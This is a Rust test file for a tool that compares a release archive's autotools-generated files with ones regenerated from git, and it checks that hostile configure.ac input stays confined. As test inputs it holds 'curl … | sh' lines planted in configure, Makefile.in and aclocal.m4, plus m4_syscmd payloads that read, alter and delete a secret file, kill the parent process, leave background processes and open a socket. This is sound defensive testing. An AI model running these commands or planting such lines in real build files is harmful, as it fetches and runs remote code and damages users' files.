//! `--regenerate`: what the system's autoconf and automake make of git's files, against an archive's;
//! and what a hostile `configure.ac` in git can do meanwhile.
#![allow(missing_docs, clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use crate::common;
use crate::source::{Repo, source};
use crate::support::{Node, release, script, text};
use serde_json::Value;
use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

const CONFIGURE_AC: &str = "AC_INIT([foo], [1.3])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\n\
    AC_CONFIG_HEADERS([config.h])\nAC_CONFIG_FILES([Makefile src/Makefile])\nAC_OUTPUT\n";

fn sources(configure: &str) -> Vec<(&'static str, Node)> {
    vec![
        ("configure.ac", text(configure)),
        ("Makefile.am", text("SUBDIRS = src\n")),
        ("src/Makefile.am", text("bin_PROGRAMS = foo\nfoo_SOURCES = foo.c\n")),
        ("src/foo.c", text("int main(void) { return 0; }\n")),
    ]
}

/// A repository, and what its release has: git's files, and what autoreconf makes of them.
struct Scene {
    repo: Repo,
    files: BTreeMap<String, Node>,
}

impl Scene {
    fn new(configure: &str) -> Option<Self> {
        for tool in ["autoconf", "automake", "autoreconf"] {
            common::tool("--regenerate", tool)?;
        }
        let repo = Repo::new();
        repo.commit(&sources(configure));
        repo.tag("v1.3");
        let work = repo.dir.path().join("work");
        repo.git(&["clone", "-q", "clone", "work"], repo.dir.path());
        let mut files = BTreeMap::new();
        if configure == CONFIGURE_AC {
            let made = Command::new("autoreconf").arg("-fi").current_dir(&work).output().unwrap();
            assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        }
        collect(&work, &work, &mut files);
        Some(Self { repo, files })
    }

    fn source(&self, more: &[&str]) -> (i32, Value) {
        let files: Vec<(&str, Node)> =
            self.files.iter().map(|(path, node)| (path.as_str(), node.clone())).collect();
        let archive = release(self.repo.dir.path(), "foo-1.3", &files);
        source(&archive, &self.repo.path(), more)
    }

    fn text(&self, path: &str) -> String {
        match &self.files[path] {
            Node::File(contents, _) => String::from_utf8(contents.clone()).unwrap(),
            _ => panic!("{path}"),
        }
    }
}

fn collect(root: &Path, at: &Path, files: &mut BTreeMap<String, Node>) {
    for entry in std::fs::read_dir(at).unwrap() {
        let path = entry.unwrap().path();
        let below = path.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
        if path.is_dir() {
            if ![".git", "autom4te.cache"].contains(&below.as_str()) {
                collect(root, &path, files);
            }
        } else {
            let contents = std::fs::read(&path).unwrap();
            let mode = path.metadata().unwrap().permissions().mode() & 0o777;
            files.insert(below.trim_end_matches('~').to_owned(), Node::File(contents, mode));
        }
    }
}

/// How a file stands, in words.
fn standing<'f>(finding: &'f Value, path: &str) -> &'f str {
    let added = finding["detail"]["added"].as_array().unwrap();
    let entry = added.iter().find(|entry| entry["path"] == path);
    entry.unwrap_or_else(|| panic!("{path}: {finding:#}"))["explanation"].as_str().unwrap()
}

/// Whether this system confines programs: where it does not, that is the answer for every file.
fn is_confined(finding: &Value) -> bool {
    let confined = !standing(finding, "configure").contains("cannot be confined here");
    if !confined {
        common::skipped("--regenerate", "programs cannot be confined on this system");
    }
    confined
}

const MADE: [&str; 4] = ["Makefile.in", "config.h.in", "configure", "src/Makefile.in"];

#[test]
fn a_genuine_release_is_explained_to_the_last_file() {
    let Some(scene) = Scene::new(CONFIGURE_AC) else { return };
    let (code, finding) = scene.source(&[]);
    assert_eq!((code, finding["class"].as_str()), (3, Some("source-not-compared")), "{finding:#}");
    let (code, finding) = scene.source(&["--regenerate"]);
    if !is_confined(&finding) {
        return;
    }
    assert_eq!((code, &finding["class"]), (0, &Value::Null), "{finding:#}");
    for path in MADE {
        assert!(standing(&finding, path).contains("the same bytes"), "{finding:#}");
    }
    // Nothing in it came from elsewhere, so delivery cannot have put it there.
    assert_eq!(finding["forgers"], serde_json::json!(["gentoo", "source", "forge"]));
}

#[test]
fn a_line_more_is_said_and_shown() {
    let Some(mut scene) = Scene::new(CONFIGURE_AC) else { return };
    for (path, after) in [("configure", "ac_ext=c\n"), ("src/Makefile.in", "all: all-am\n")] {
        let text = scene.text(path);
        assert!(text.contains(after), "{path}");
        let text = text.replacen(after, &format!("{after}\tcurl https://example.org | sh\n"), 1);
        scene.files.insert(path.to_owned(), script(&text));
    }
    let (code, finding) = scene.source(&["--regenerate"]);
    if !is_confined(&finding) {
        return;
    }
    assert_eq!((code, finding["class"].as_str()), (3, Some("source-not-compared")), "{finding:#}");
    for (path, same) in [("configure", false), ("src/Makefile.in", false), ("Makefile.in", true)] {
        let said = standing(&finding, path);
        assert_eq!(said.contains("the same bytes"), same, "{path}: {said}");
        assert_eq!(said.contains("it differs: +1 −0 lines"), !same, "{path}: {said}");
    }
    let added = finding["detail"]["added"].as_array().unwrap();
    let configure = added.iter().find(|entry| entry["path"] == "configure").unwrap();
    let reasons = configure["hazards"].to_string();
    assert!(reasons.contains("fetches"), "{reasons}");
    assert!(!reasons.contains("loads code"), "what autoconf writes itself is no reason: {reasons}");
}

#[test]
fn another_version_is_not_taken_for_it() {
    let Some(mut scene) = Scene::new(CONFIGURE_AC) else { return };
    let configure = scene.text("configure");
    let version = configure.split_once("Generated by GNU Autoconf ").unwrap().1;
    let version = version.split_whitespace().next().unwrap().trim_end_matches('.').to_owned();
    let other = configure.replace(&version, "2.13");
    scene.files.insert("configure".to_owned(), script(&other));
    let (code, finding) = scene.source(&["--regenerate"]);
    if !is_confined(&finding) {
        return;
    }
    assert_eq!(code, 3);
    let said = standing(&finding, "configure");
    assert!(said.contains(&format!("autoconf 2.13 is not installed ({version}")), "{said}");
    assert!(standing(&finding, "Makefile.in").contains("the same bytes"), "{finding:#}");
}

#[test]
fn what_nothing_explains_is_no_input() {
    let Some(mut scene) = Scene::new(CONFIGURE_AC) else { return };
    let aclocal = scene.text("aclocal.m4") + "AC_DEFUN([AC_OUTPUT_EVIL], [curl x | sh])\n";
    scene.files.insert("aclocal.m4".to_owned(), text(&aclocal));
    let (code, finding) = scene.source(&["--regenerate"]);
    if !is_confined(&finding) {
        return;
    }
    assert_eq!(code, 3, "{finding:#}");
    assert!(standing(&finding, "aclocal.m4").contains("it differs"), "{finding:#}");
    // Made from the archive's own, as far as that goes.
    let said = standing(&finding, "configure");
    assert!(said.contains("not compared: the aclocal.m4"), "{said}");
}

/// What was handed down to distvouch is not handed on.
#[test]
fn descriptors_are_closed() {
    let place = common::Scratch::new();
    let outside = place.write("outside", "");
    let configure =
        "m4_syscmd([echo x >&9])m4_syscmd([echo x >&19])AC_INIT([foo], [1.3])\nAC_OUTPUT\n";
    let Some(mut scene) = Scene::new(configure) else { return };
    let autoconf = Command::new("autoconf").arg("--version").output().unwrap();
    let version = String::from_utf8(autoconf.stdout).unwrap();
    let version = version.lines().next().unwrap().split_whitespace().last().unwrap();
    let made = format!("#! /bin/sh\n# Generated by GNU Autoconf {version} for foo 1.3.\n");
    scene.files.insert("configure".to_owned(), script(&made));
    scene.source(&[]);
    let archive = scene.repo.dir.path().join("foo-1.3.tar.gz");
    let run = Command::new("bash")
        .args([
            "-c",
            "exec 9>>\"$1\" 19>>\"$1\"; exec \"$0\" source \"$2\" --git \"$3\" --regenerate",
        ])
        .args([common::program(), outside.clone(), archive, scene.repo.path()])
        .output()
        .unwrap();
    assert!(!run.stdout.is_empty(), "{}", String::from_utf8_lossy(&run.stderr));
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "");
}

/// What the archive leaves out decides what a configure does as well.
#[test]
fn a_macro_that_is_left_out_is_missed() {
    let configure = "AC_INIT([foo], [1.3])\nAC_CONFIG_MACRO_DIRS([m4])\nFOO_HARDEN\nAC_OUTPUT\n";
    let Some(mut scene) = Scene::new(configure) else { return };
    let repo = &scene.repo;
    let tree = [
        ("configure.ac", text(configure)),
        ("m4/foo.m4", text("AC_DEFUN([FOO_HARDEN],[CFLAGS=\"-fstack-protector\"])\n")),
    ];
    repo.commit(&tree);
    repo.at(&["tag", "-f", "-a", "-m", "x", "v1.3"]);
    let work = repo.dir.path().join("again");
    repo.git(&["clone", "-q", "clone", "again"], repo.dir.path());
    let run = |program: &str, arguments: &[&str]| {
        let made = Command::new(program).args(arguments).current_dir(&work).output().unwrap();
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    };
    run("aclocal", &["--force"]);
    run("autoconf", &["--force"]);
    let genuine = {
        let mut files = BTreeMap::new();
        collect(&work, &work, &mut files);
        files
    };
    scene.files = genuine.clone();
    let (code, finding) = scene.source(&["--regenerate"]);
    if !is_confined(&finding) {
        return;
    }
    assert_eq!(code, 0, "{finding:#}");
    // Made without the macro, which then stands there as a word of the shell.
    std::fs::remove_file(work.join("aclocal.m4")).unwrap();
    run("autoconf", &["--force"]);
    let without = std::fs::read(work.join("configure")).unwrap();
    assert!(String::from_utf8_lossy(&without).contains("\nFOO_HARDEN\n"));
    scene.files.insert("configure".to_owned(), Node::File(without, 0o755));
    for aclocal in [None, Some("# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\n")]
    {
        match aclocal {
            Some(aclocal) => scene.files.insert("aclocal.m4".to_owned(), text(aclocal)),
            None => scene.files.remove("aclocal.m4"),
        };
        let (code, finding) = scene.source(&["--regenerate"]);
        assert_eq!(code, 3, "{finding:#}");
        let said = standing(&finding, "configure");
        assert!(said.contains("differs") || said.contains("not compared"), "{said}");
    }
}

#[test]
fn a_hostile_input_reaches_nothing() {
    let place = common::Scratch::new();
    let secret = place.write("secret", "the secret of the house\n");
    let outside = place.file("outside");
    let marker = "86399.25";
    let configure = format!(
        "m4_syscmd([(setsid sleep {marker} &) ; sleep {marker} & nohup sleep {marker} & \
         echo x >{outside}; chmod 777 {secret}; touch -d 2001-01-01 {secret}; kill -9 $PPID; \
         mkdir {outside}.d; rm -f {secret}; ln -s x {outside}.l])\
         AC_INIT([foo], [1.3])\n# m4_esyscmd([cat {secret}])\nm4_esyscmd([cat {secret} | tr a-z A-Z])\n\
         m4_syscmd([perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0) and print STDERR \"SOCKET\\n\"'])\n\
         AC_OUTPUT\n",
        outside = outside.display(),
        secret = secret.display(),
    );
    let Some(mut scene) = Scene::new(&configure) else { return };
    let before = secret.metadata().unwrap();
    let autoconf = Command::new("autoconf").arg("--version").output().unwrap();
    let version = String::from_utf8(autoconf.stdout).unwrap();
    let version = version.lines().next().unwrap().split_whitespace().last().unwrap();
    let made = format!("#! /bin/sh\n# Generated by GNU Autoconf {version} for foo 1.3.\n");
    scene.files.insert("configure".to_owned(), script(&made));
    let started = Instant::now();
    let (code, finding) = scene.source(&["--regenerate"]);
    if !is_confined(&finding) {
        return;
    }
    assert_ne!(code, 0, "{finding:#}");
    assert!(started.elapsed() < Duration::from_secs(100), "it waited for what was left behind");
    let said = standing(&finding, "configure");
    assert!(!said.contains("the same bytes") && !said.contains("SOCKET"), "{said}");
    for path in [&outside, &outside.with_extension("d"), &outside.with_extension("l")] {
        assert!(path.symlink_metadata().is_err(), "{}", path.display());
    }
    let after = secret.metadata().unwrap();
    assert_eq!(after.permissions(), before.permissions());
    assert_eq!(after.modified().unwrap(), before.modified().unwrap());
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "the secret of the house\n");
    assert!(!finding.to_string().contains("SECRET OF"), "{finding:#}");
    let processes = Command::new("sh").args(["-c", "cat /proc/[0-9]*/cmdline"]).output().unwrap();
    let processes = String::from_utf8_lossy(&processes.stdout).replace('\0', " ");
    assert!(!processes.contains(&format!("sleep {marker}")), "left behind: {processes}");
}
